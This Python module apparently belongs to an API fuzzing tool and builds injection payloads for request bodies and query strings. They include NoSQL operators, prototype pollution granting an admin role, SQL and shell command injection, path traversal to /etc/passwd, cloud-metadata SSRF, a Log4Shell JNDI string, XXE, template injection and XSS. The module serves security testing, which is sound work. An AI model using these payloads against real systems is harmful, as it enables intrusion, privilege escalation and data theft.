"""What is put where a value belongs: operators, code, text that some interpreter would act upon, and what no number is.

Each payload is JSON text as it stands in a body, since some of it no library would write; ``text`` is what a query or a
path holds instead.
"""

import json
from collections.abc import Iterator
from typing import Any, NamedTuple
from urllib.parse import quote

DEEP = 200


class Payload(NamedTuple):
    """One thing to inject. ``kind`` is its JSON type, ``text`` what stands for it outside JSON."""

    raw: str
    kind: str
    text: str


def _value(value: Any) -> Payload:
    raw = json.dumps(value)
    kind = {dict: "object", list: "array", str: "string", bool: "boolean", type(None): "null"}.get(type(value))
    return Payload(raw, kind or "number", value if isinstance(value, str) else raw)


OPERATORS = [
    {"$ne": None}, {"$gt": ""}, {"$where": "sleep(9000) || true"}, {"$regex": ".*"}, {"$expr": {"$eq": [1, 1]}},
    {"$in": [None, ""]}, {"$exists": True}, {"$nin": []}, {"$not": {"$eq": 1}}, {"$or": [{}, {"a": 1}]},
    {"$function": {"body": "function(){return true}", "args": [], "lang": "js"}}, {"$oid": "0" * 24},
    {"$date": "2026-01-01T00:00:00Z"}, {"$set": {"role": "admin"}}, {"$inc": {"cash": 1}}, {"$ref": "#/x"},
    [{"$ne": 1}], ["x"], [], {}, {"a.b": 1}, {"a\x00": 1}, {"__proto__": {"role": "admin"}},
    {"constructor": {"prototype": {"role": "admin"}}}, {"__class__": "os.system"}, {"py/object": "os.system"},
]  # fmt: skip
TEXTS = [
    "$where", "$$ROOT", "$password_hash", "[$ne]=x", ".*", "^(a+)+$", "a" * 50 + "!", "=cmd|' /C calc'!A0", "@SUM(1)",
    "x\r\nSet-Cookie: a=b\r\n\r\nHTTP/1.1 200 OK", "{{7*7}}${7*7}<%= 7*7 %>#{7*7}", "%s%n%x%p", "{0.__class__.__mro__}",
    "../../../../etc/passwd", "..\\..\\win.ini", "/proc/self/environ", "file:///etc/passwd", "http://169.254.169.254/",
    "' OR '1'='1' --", "'; return true; //", "; id | `id` $(id)", "<script>alert(1)</script>", "a\x00b", "\u202e\u200b",
    "\u0661\u0662\u0663", "\uff11", "${jndi:ldap://127.0.0.1/a}", "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///x'>]>&b;",
    "x" * 20_000, "\ufeff1", "1_000", "0x10", "null", "undefined", "NaN", "-Infinity", "1e400", "",
]  # fmt: skip
RAW = [
    ("NaN", "number"), ("Infinity", "number"), ("-Infinity", "number"), ("1e400", "number"), ("1e-400", "number"),
    ("9" * 5_000, "number"), ("-" + "9" * 400, "number"), ("1e999999999", "number"), ("010", "number"),
    (r'"\ud800"', "string"), (r'{"\udfff": 1}', "object"), ("[" * DEEP + "]" * DEEP, "array"),
    ('{"a":' * DEEP + "1" + "}" * DEEP, "object"), ("true", "boolean"), ("null", "null"),
]  # fmt: skip
PAYLOADS = [*map(_value, OPERATORS), *map(_value, TEXTS), *(Payload(raw, kind, raw) for raw, kind in RAW)]


def queries(name: str) -> Iterator[str]:
    """Give query strings for one parameter: each payload as its value, and its name with an operator in it."""
    yield from (f"{name}={quoted(payload.text)}" for payload in PAYLOADS if len(payload.text) < 4_000)
    for mangled in ("{}[$ne]", "{}[$regex]", "{}[$gt]", "{}[]", "{}.$ne", "{}__ne", "{}__regex", "{}__$where", "${}"):
        yield f"{quoted(mangled.format(name))}=1"
    yield f"{name}=1&{name}=2"
    yield f"{name}=1;{name}=2"


def quoted(text: str) -> str:
    """Percent-encode everything; lone surrogates as their three bytes."""
    return quote(text.encode("utf-8", "surrogatepass"), safe="")
